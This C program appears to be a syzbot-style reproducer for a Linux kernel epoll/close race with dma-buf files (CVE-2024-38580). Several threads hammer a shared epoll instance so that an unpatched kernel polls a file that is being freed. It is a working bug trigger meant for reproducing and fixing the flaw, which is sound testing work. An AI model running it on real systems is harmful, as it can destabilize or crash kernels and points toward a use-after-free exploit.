// The 2024 epoll/close race (CVE-2024-38580), written as syzbot writes reproducers: plain
// threads, no harness, loops until killed. One thread allocates a dma-buf from the system
// heap, adds it to a shared epoll instance and closes it; the others spin epoll_wait(..., 0)
// on the same instance. A kernel whose ep_item_poll() polls the file without pinning it runs
// dma_buf_poll() on a file whose last reference is being dropped: WARNING in dma_buf_poll.
//
// gcc -O2 -pthread -static -I OBJ/usr/include epoll-dmabuf-close.c -o repro
#define _GNU_SOURCE
#include <fcntl.h>
#include <linux/dma-heap.h>
#include <pthread.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/epoll.h>
#include <sys/ioctl.h>
#include <unistd.h>

static int epfd;

static void *closer(void *arg)
{
	int heap = open("/dev/dma_heap/system", O_RDONLY | O_CLOEXEC);
	if (heap < 0) {
		perror("open /dev/dma_heap/system");
		exit(1);
	}
	for (;;) {
		struct dma_heap_allocation_data data = {
			.len = 4096,
			.fd_flags = O_RDWR | O_CLOEXEC,
		};
		if (ioctl(heap, DMA_HEAP_IOCTL_ALLOC, &data))
			continue;
		struct epoll_event ev = { .events = EPOLLIN | EPOLLOUT, .data.fd = data.fd };
		epoll_ctl(epfd, EPOLL_CTL_ADD, data.fd, &ev);
		close(data.fd);
	}
	return arg;
}

static void *poller(void *arg)
{
	struct epoll_event events[16];
	for (;;)
		epoll_wait(epfd, events, 16, 0);
	return arg;
}

int main(void)
{
	pthread_t t;
	long cpus = sysconf(_SC_NPROCESSORS_ONLN);
	epfd = epoll_create1(EPOLL_CLOEXEC);
	if (epfd < 0) {
		perror("epoll_create1");
		return 1;
	}
	pthread_create(&t, NULL, closer, NULL);
	for (long i = 1; i < (cpus > 1 ? cpus : 2); i++)
		pthread_create(&t, NULL, poller, NULL);
	pause();
	return 0;
}
